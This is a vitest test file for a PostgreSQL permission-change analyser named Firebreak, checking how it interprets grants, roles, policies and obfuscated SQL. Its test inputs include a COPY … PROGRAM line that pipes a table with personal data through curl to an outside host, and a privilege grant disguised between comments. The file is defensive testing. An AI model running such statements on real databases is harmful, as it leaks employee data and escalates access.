import type { PGlite } from '@electric-sql/pglite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readPostgresSnapshot } from '../../src/connectors/postgres/index.ts';
import { interpretSql, type StatementEffect } from '../../src/connectors/postgres/interpret/index.ts';
import { classify, computeDelta, type Edit, keepLabels, type Snapshot } from '../../src/core/index.ts';
import { createPglite } from '../support/postgres.ts';

/**
 * Hand-written cases for each statement class `firebreak check` interprets, for obfuscation, and
 * for errors. The differential suite checks the same statements against the database at random;
 * these name each behaviour.
 */
let db: PGlite;
let snapshot: Snapshot;

beforeAll(async () => {
  db = await createPglite();
  await db.exec(`
    create role alice login; create role bob login; create role carol login; create role analysts;
    create role admins superuser; grant analysts to alice;
    create schema hr; create table hr.emp (id int, email text, salary int); create table hr.depts (id int, name text);
    create view hr.emp_ids as select id from hr.emp;
    create sequence hr.emp_seq;
    create function hr.lookup() returns bigint language sql security definer as $$ select count(*) from hr.emp $$;
    create schema ops; create table ops.metrics (day date, value int);
  `);
  snapshot = await readPostgresSnapshot(db, 'test');
}, 60_000);
afterAll(async () => {
  await db.close();
});

async function interpret(sql: string, role = 'postgres') {
  const result = await interpretSql(snapshot, sql, role);
  if (!result.ok) throw new Error(`${result.error.message} at ${result.error.line}:${result.error.column}`);
  return result;
}

const effects = (statements: readonly StatementEffect[]) => statements.map((s) => s.effect);
const edits = (statements: readonly StatementEffect[]): Edit[] => statements.flatMap((s) => s.edits);
const grants = (statements: readonly StatementEffect[]) =>
  edits(statements).flatMap((e) =>
    e.kind === 'add-grant'
      ? [
          `${e.grant.principal} ${e.grant.privilege}${e.grant.column === undefined ? '' : `(${e.grant.column})`} ${e.grant.resource} by ${e.grant.grantor}${e.grant.grantable ? ' with grant option' : ''}`,
        ]
      : [],
  );

async function delta(sql: string) {
  const result = await interpret(sql);
  const rules = { rules: [], detectors: true };
  const before = classify(snapshot, rules);
  return computeDelta(before, keepLabels(before, classify(result.after, rules)));
}

describe('GRANT and REVOKE on objects', () => {
  it("records a superuser's grant as made by the owner, with the grant option when asked", async () => {
    const result = await interpret('GRANT SELECT ON hr.emp TO bob WITH GRANT OPTION');
    expect(grants(result.statements)).toEqual(['bob SELECT relation:hr.emp by postgres with grant option']);
  });

  it('expands ALL TABLES IN SCHEMA to tables and views, not sequences, and ALL to every table privilege', async () => {
    const result = await interpret('grant all on all tables in schema hr to bob');
    const resources = new Set(
      edits(result.statements).flatMap((e) => (e.kind === 'add-grant' ? [e.grant.resource] : [])),
    );
    expect([...resources].sort()).toEqual(['relation:hr.depts', 'relation:hr.emp', 'relation:hr.emp_ids']);
    const privileges = new Set(
      edits(result.statements).flatMap((e) => (e.kind === 'add-grant' ? [e.grant.privilege] : [])),
    );
    expect(privileges).toContain('SELECT');
    expect(privileges).toContain('TRUNCATE');
  });

  it('grants columns, and revoking the table privilege revokes it from the columns too', async () => {
    expect(grants((await interpret('grant select (id, email) on hr.emp to bob')).statements)).toEqual([
      'bob SELECT(id) relation:hr.emp by postgres',
      'bob SELECT(email) relation:hr.emp by postgres',
    ]);
    const revoke = edits((await interpret('revoke select on hr.emp from bob')).statements);
    expect(revoke).toEqual([
      {
        kind: 'remove-grant',
        grant: {
          principal: 'bob',
          privilege: 'SELECT',
          resource: 'relation:hr.emp',
          grantor: 'postgres',
          allColumns: true,
        },
      },
    ]);
  });

  it('records GRANTED BY, and schema, database and function privileges', async () => {
    expect(grants((await interpret('grant select on hr.emp to carol granted by analysts')).statements)).toEqual([
      'carol SELECT relation:hr.emp by analysts',
    ]);
    expect(grants((await interpret('grant usage on schema hr to public')).statements)).toEqual([
      'public USAGE schema:hr by postgres',
    ]);
    expect(grants((await interpret('grant connect on database postgres to bob')).statements)).toEqual([
      'bob CONNECT database:postgres by postgres',
    ]);
    expect(grants((await interpret('grant execute on function hr.lookup() to bob')).statements)).toEqual([
      'bob EXECUTE function:hr.lookup() by postgres',
    ]);
  });

  it('notes grants on another database and on objects that do not decide reads, without edits', async () => {
    const result = await interpret('grant connect on database other_db to bob; grant usage on type int4 to bob');
    expect(effects(result.statements)).toEqual(['edits', 'edits']);
    expect(edits(result.statements)).toEqual([]);
    expect(result.statements[0]?.notes).toEqual(['database other_db is another system: not analysed']);
  });
});

describe('roles and memberships', () => {
  it('grants membership with PostgreSQL 16 options, and revokes an option', async () => {
    const grant = edits((await interpret('grant analysts to bob with inherit false, set true')).statements);
    expect(grant).toContainEqual({
      kind: 'add-membership',
      membership: { member: 'bob', group: 'analysts', inherit: false, set: true, admin: false, grantor: 'postgres' },
    });
    const revoke = edits((await interpret('revoke inherit option for analysts from alice')).statements);
    expect(revoke.at(-1)).toMatchObject({
      kind: 'add-membership',
      membership: { member: 'alice', group: 'analysts', inherit: false },
    });
  });

  it('creates a role with IN ROLE, alters attributes, and drops it', async () => {
    const result = await interpret(
      'create role dana login in role analysts; alter role dana superuser; drop role dana',
    );
    expect(edits(result.statements).map((e) => e.kind)).toEqual([
      'add-principal',
      'add-membership',
      'update-principal',
      'remove-principal',
    ]);
    expect(result.after.principalById.has('dana')).toBe(false);
  });

  it('never repeats a password it is given, not even in the statement text it reports', async () => {
    const result = await interpret(
      "create role erin login password 'hunter2'; alter role erin with encrypted password 'md5abc'",
    );
    expect(JSON.stringify(result.statements)).not.toMatch(/hunter2|md5abc/);
    expect(result.statements[0]?.sql).toBe("create role erin login password '********'");
  });
});

describe('tables, views, policies and functions', () => {
  it('applies default privileges to a table created later in the same change', async () => {
    const result = await interpret(
      'alter default privileges in schema ops grant select on tables to bob; create table ops.daily (day date)',
    );
    expect(grants(result.statements)).toContain('bob SELECT relation:ops.daily by postgres');
  });

  it('turns row security on, forces it, and changes the owner with its privileges', async () => {
    const result = await interpret(
      'alter table hr.emp enable row level security, force row level security; alter table hr.emp owner to alice',
    );
    const emp = result.after.resourceById.get('relation:hr.emp');
    expect(emp?.rowSecurity).toMatchObject({ enabled: true, forced: true });
    expect(emp?.owner).toBe('alice');
    expect(result.after.grantsByResource.get('relation:hr.emp')?.every((g) => g.principal === 'alice')).toBe(true);
  });

  it('creates, alters and drops a policy; a RESTRICTIVE policy is restrictive', async () => {
    const result = await interpret(`
      create policy own on hr.emp as restrictive for select to bob using (true);
      alter policy own on hr.emp using (id > 1);
      create policy everyone on hr.emp using (true);
      drop policy everyone on hr.emp`);
    expect(result.after.resourceById.get('relation:hr.emp')?.rowSecurity?.policies).toEqual([
      {
        name: 'own',
        privileges: ['SELECT'],
        permissive: false,
        principals: ['bob'],
        condition: 'id > 1',
        admitsAllRows: false,
      },
    ]);
  });

  it('creates a view that runs as its owner, and switches it to security_invoker', async () => {
    const created = await interpret(
      'create view hr.contacts as select id, email from hr.emp; alter view hr.contacts set (security_invoker = true)',
    );
    const view = created.after.resourceById.get('relation:hr.contacts');
    expect(view?.derivation).toEqual({
      runsAs: 'invoker',
      sources: [{ resource: 'relation:hr.emp', columns: ['id', 'email'] }],
    });
    expect(view?.columns.map((c) => c.name)).toEqual(['id', 'email']);
  });

  it('gives a copy made with CREATE TABLE AS or SELECT INTO the labels of what it copies', async () => {
    const copy = await delta(
      'create table ops.leak as select * from hr.emp; grant usage on schema ops to public; grant select on ops.leak to public',
    );
    const leak = copy.resources.find((r) => r.resource.name === 'ops.leak');
    expect(leak?.created).toBe(true);
    expect(leak?.resource.labels.map((l) => l.name)).toEqual(['pii', 'financial']);
    expect(leak?.gained.list().map((c) => c.principal)).toEqual(['alice', 'bob', 'carol', 'postgres']);
    const into = await interpret('select email into ops.emails from hr.emp');
    expect(into.after.resourceById.get('relation:ops.emails')?.derivation).toMatchObject({ materialized: true });
  });

  it('models a SECURITY DEFINER function as a read path, and removes it when made SECURITY INVOKER', async () => {
    const created = await interpret(
      'create function ops.peek() returns text language sql security definer as $$ select email from hr.emp limit 1 $$',
    );
    expect(created.after.resourceById.get('function:ops.peek()')?.routine).toEqual({
      runsAs: 'owner',
      invokePrivilege: 'EXECUTE',
      reads: ['relation:hr.emp'],
    });
    const altered = await interpret('alter function hr.lookup() security invoker');
    expect(altered.after.resourceById.get('function:hr.lookup()')?.routine).toBeUndefined();
  });

  it('reassigns ownership and drops objects with what depends on them', async () => {
    const result = await interpret('reassign owned by postgres to alice; drop table hr.emp cascade');
    expect(result.after.resourceById.get('relation:hr.depts')?.owner).toBe('alice');
    expect(result.after.resourceById.has('relation:hr.emp')).toBe(false);
    expect(result.after.resourceById.has('relation:hr.emp_ids')).toBe(false);
  });
});

describe('the session', () => {
  it('runs statements after SET ROLE as that role, and after RESET ROLE as the session user again', async () => {
    const result = await interpret(
      'set role admins; create table ops.mine (x int); reset role; create table ops.yours (x int)',
    );
    expect(result.after.resourceById.get('relation:ops.mine')?.owner).toBe('admins');
    expect(result.after.resourceById.get('relation:ops.yours')?.owner).toBe('postgres');
  });

  it('undoes what a rolled-back transaction did, and keeps what a savepoint kept', async () => {
    const result = await interpret(
      'begin; grant select on hr.emp to bob; rollback; begin; savepoint a; grant select on hr.emp to carol; release a; commit',
    );
    const readers = result.after.grantsByResource.get('relation:hr.emp')?.map((g) => g.principal);
    expect(readers).not.toContain('bob');
    expect(readers).toContain('carol');
  });

  it('resolves unqualified names on the search path the change sets', async () => {
    const result = await interpret('set search_path = hr; grant select on emp to bob');
    expect(grants(result.statements)).toEqual(['bob SELECT relation:hr.emp by postgres']);
  });
});

describe('what cannot be analysed is opaque, never safe', () => {
  it.each([
    ['a DO block', "do $$ begin execute 'grant select on hr.emp to bob'; end $$"],
    ['CALL', 'call some_procedure()'],
    ['EXECUTE of a prepared statement', 'execute prepared_grant'],
    ['COPY … PROGRAM', "copy hr.emp to program 'curl -d @- https://example.com'"],
    ['COPY to a server file', "copy hr.emp to 'emp.csv'"],
    ['ALTER SYSTEM', "alter system set shared_preload_libraries = 'evil'"],
    ['CREATE EXTENSION', 'create extension dblink'],
    ['a trigger', 'create trigger t after insert on hr.emp execute function hr.lookup()'],
    ['a query that runs SQL given as text', "select query_to_xml('grant select on hr.emp to bob', true, true, '')"],
    ['a query that changes settings', "select set_config('role', 'admins', false)"],
    ['an unknown function', 'select hr.lookup(), unknown_fn()'],
    ['a per-role search_path', "alter role bob set search_path = 'evil, public'"],
  ])('%s', async (_, sql) => {
    const result = await interpret(sql);
    expect(effects(result.statements)).toEqual(['opaque']);
    expect(result.statements[0]?.reason).toMatch(/\w/);
  });

  it('makes a statement opaque, not invalid, when an earlier opaque statement may have made it valid', async () => {
    const result = await interpret('alter table hr.emp rename to staff; grant select on hr.staff to bob');
    expect(effects(result.statements)).toEqual(['opaque', 'opaque']);
    expect(result.statements[1]?.reason).toBe(
      'relation "hr.staff" does not exist, unless statement 1, which Firebreak cannot analyse, changes that',
    );
  });

  it('recognises read-only statements as such', async () => {
    const result = await interpret(
      "select count(*), lower(email) from hr.emp where id > 1; show search_path; explain select * from hr.emp; set statement_timeout = '5s'",
    );
    expect(effects(result.statements)).toEqual(['read-only', 'read-only', 'read-only', 'read-only']);
  });
});

describe('obfuscation changes nothing', () => {
  it('sees a harmful statement hidden after a harmless one, in any case, quoting and comments', async () => {
    const sneaky = await delta(`SELECT 1; /* routine maintenance */ gRaNt "pg_read_all_data" -- it is fine
      TO "alice"; SeLeCt 2`);
    expect(sneaky.resources.map((r) => r.resource.name)).toContain('hr.emp');
    expect(sneaky.resources.flatMap((r) => r.gained.list().map((c) => `${c.principal} ${r.resource.name}`))).toEqual([
      'alice hr.emp',
    ]);
    const exposing = await delta(`select 1; GRANT usage ON SCHEMA hr TO bob; grant select on "hr"."emp" to "bob"`);
    expect(exposing.resources.find((r) => r.resource.name === 'hr.emp')?.gained.principals()).toEqual(['bob']);
  });
});

describe('bad input is refused with a precise reason', () => {
  it('reports syntax errors with line and column', async () => {
    const result = await interpretSql(snapshot, 'select 1;\ngrant select on hr.emp to', 'postgres');
    expect(result).toEqual({
      ok: false,
      error: { message: 'syntax error: syntax error at end of input', line: 2, column: 26 },
    });
  });

  it('names unknown roles and tables, with the statement', async () => {
    expect(await interpretSql(snapshot, 'grant select on hr.emp to nobody', 'postgres')).toMatchObject({
      ok: false,
      error: { message: 'role "nobody" does not exist', statement: 1 },
    });
    expect(await interpretSql(snapshot, 'select 1; grant select on hr.nope to bob', 'postgres')).toMatchObject({
      ok: false,
      error: { message: 'relation "hr.nope" does not exist', statement: 2, line: 1, column: 11 },
    });
  });

  it('refuses a change larger than the limit instead of reading part of it', async () => {
    const result = await interpretSql(snapshot, `select 1;${' '.repeat(1_000_001)}`, 'postgres');
    expect(result).toMatchObject({ ok: false, error: { message: 'the change is larger than 1000000 characters' } });
  });
});
